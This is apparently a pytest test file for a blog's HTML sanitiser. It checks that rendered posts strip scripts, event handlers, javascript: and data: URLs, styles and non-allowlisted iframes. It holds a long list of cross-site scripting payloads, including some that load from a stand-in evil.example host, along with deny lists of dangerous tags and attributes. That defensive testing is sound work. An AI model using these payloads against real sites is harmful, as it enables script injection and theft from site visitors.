"""No body runs anything, loads a page, or changes the page that it stands in."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blog.content.posts import Format
from tests.content.tags import POST_ID, PREFIX, tags_of
from tests.renderings import render

Attributes = Mapping[str, str | None]

# Everything that runs code, loads a page, styles the page around it or takes part in a form.
DANGEROUS_TAGS = {
    "applet", "base", "body", "button", "embed", "form", "frame", "frameset", "head", "html",
    "link", "math", "meta", "noscript", "object", "script", "select", "style", "svg", "template",
    "textarea", "title", "xmp",
}  # fmt: skip
DANGEROUS_ATTRIBUTES = {
    "action", "allow", "autofocus", "autoplay", "background", "form", "formaction", "name", "ping",
    "srcdoc", "style", "target",
}  # fmt: skip
# Those of Pygments are short; the others begin with the name of what makes them.
CLASS = re.compile(
    r"[a-z][a-z0-9]{0,2}|anchor"
    r"|(?:language-|align|wp-block-|kg-|is-|has-|markdown-alert|footnote)[\w-]*"
)
EMBEDS = {
    "codepen.io", "open.spotify.com", "player.vimeo.com", "w.soundcloud.com", "www.youtube.com",
    "www.youtube-nocookie.com",
}  # fmt: skip
SANDBOX = {"allow-scripts", "allow-same-origin", "allow-popups"}
REFERENCES = ("id", "aria-labelledby", "aria-describedby", "aria-controls", "headers")

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)//",
    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 2x">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<p style="position: fixed; top: 0">x</p>',
    '<div class="admin-panel">x</div>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x)",
    '[x](http://example.org "t\\" onclick=alert(1) y=\\"")',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\"><script>alert(1)</script>\ncode\n```",
    "`<script>alert(1)</script>`",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '<svg><p id="x"><a id="y" xlink:id="z" name="w"></p></svg>',
    '<a ping="//evil.example/" target="_blank" href="//example.org">x</a>',
    '<a href="\\\\evil.example" rel="opener">x</a>',
    '<img srcset="a 1x,data:image/svg+xml,x 2x">',
    '<img srcset="a 1x,\tdata:image/svg+xml,x y,data:x">',
    '<img srcset="a 1x, data:image/svg+xml,x 2x">',
    '<video poster="javascript:alert(1)" src="data:text/html,x" autoplay></video>',
    '<source src="javascript:alert(1)"><track src="data:text/vtt,x">',
    '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
    '<iframe src="https:\\\\evil.example\\@www.youtube.com/"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<iframe src="//www.youtube.com:8443/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com/" srcdoc="<script>alert(1)</script>" name="x" '
    'sandbox="allow-top-navigation" allow="camera" onload="alert(1)"></iframe>',
    '<iframe src="https://www.youtube.com/"></iframe >',
    '<iframe src="https://www.youtube.com/"><script>alert(1)</script></iframe>',
    '<input type="image" src="//evil.example" formaction="//evil.example">',
    '<input type="checkbox" name="x" form="y" onclick="alert(1)">',
    '<p aria-labelledby="title" aria-controls="menu">x</p>',
    '<td headers="menu">x</td>',
    '<p class="k fixed nav language-x modal">x</p>',
    '<b style="color:red" class="d-none">x</b>',
    '# x {#"onclick=alert(1)}',
    "# x {#top}\n\n[x](#top)",
    "```c\" onclick=alert(1)\nint x;\n```",
    "```html\n<script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$ $`<img src=x onerror=alert(1)>`$",
    "```math\n<script>alert(1)</script>\n```",
    "> [!NOTE] <script>alert(1)</script>\n> x",
    "==<script>alert(1)</script>== ^<img src=x onerror=alert(1)>^",
    "<img src=x onerror=alert(1)>\n\n: <script>alert(1)</script>",
    "- [x] <script>alert(1)</script>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "<T onclick=alert(1)> <x-y onclick=alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
]  # fmt: skip


def dangers(html: str) -> Iterator[str]:
    """Whatever in the HTML could run, load, restyle or collide with the page around it."""
    for tag, attributes in tags_of(html):
        if tag in DANGEROUS_TAGS:
            yield tag
        if tag == "iframe" and not is_known(attributes):
            yield f"iframe {attributes}"
        if tag == "input" and attributes.keys() - {"checked"} != {"type", "disabled"}:
            yield f"input {attributes}"
        for name, value in attributes.items():
            yield from dangers_of(name, value or "")


def dangers_of(name: str, value: str) -> Iterator[str]:
    """What an attribute can do."""
    if name.startswith("on") or name in DANGEROUS_ATTRIBUTES:
        yield name
    if name in ("href", "src", "poster") and runs(value):
        yield value
    if name == "srcset" and any(map(runs, value.split(","))):
        yield value
    if name == "class" and not all(map(CLASS.fullmatch, value.split())):
        yield f"class {value}"
    if name in REFERENCES and not all(part.startswith(PREFIX) for part in value.split()):
        yield f"{name} {value}"
    if name == "href" and re.match(rf"#(?!$|top$|{PREFIX})", value):
        yield value


def runs(address: str) -> bool:
    """Whether an address is code or a document; a browser passes over control characters."""
    start = re.sub(r"[\x00-\x20]", "", address).lower()
    return start.startswith(("javascript:", "vbscript:", "data:"))


def is_known(frame: Attributes) -> bool:
    """Whether an embedded page is of a known host, and may do no more than it must."""
    parts = urlsplit(frame.get("src") or "")
    granted = set((frame.get("sandbox") or "allow-all").split())
    return parts.scheme == "https" and parts.netloc in EMBEDS and granted == SANDBOX


@pytest.mark.parametrize("format", ["markdown", "html", "text"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_not_survive(attack: str, format: Format) -> None:
    assert list(dangers(render(attack, format, POST_ID))) == []


@settings(deadline=None, max_examples=200)
@given(
    st.lists(st.sampled_from(ATTACKS) | st.text(max_size=9), max_size=4).map("".join),
    st.sampled_from(["markdown", "html", "text"]),
)
def test_no_mixture_of_attacks_survives(body: str, format: Format) -> None:
    assert list(dangers(render(body, format, POST_ID))) == []


@pytest.mark.parametrize("format", ["markdown", "html"])
def test_an_address_that_is_not_checked_is_not_kept(format: Format) -> None:
    html = render('<q cite="javascript:alert(1)">said</q>', format, POST_ID)

    assert "javascript" not in html


@pytest.mark.parametrize("format", ["markdown", "html"])
def test_no_style_is_kept(format: Format) -> None:
    html = render(
        '<table><tr><td style="position:fixed;text-align:left" align="left">x</td></tr></table>',
        format,
        POST_ID,
    )

    assert 'align="left"' in html
    assert "style" not in html


@pytest.mark.parametrize("format", ["markdown", "html"])
def test_a_page_of_another_host_becomes_a_link(format: Format) -> None:
    html = render('<iframe src="https://evil.example/"></iframe>', format, POST_ID)

    assert html.strip() == (
        '<a href="https://evil.example/" rel="noopener noreferrer">https://evil.example/</a>'
    )
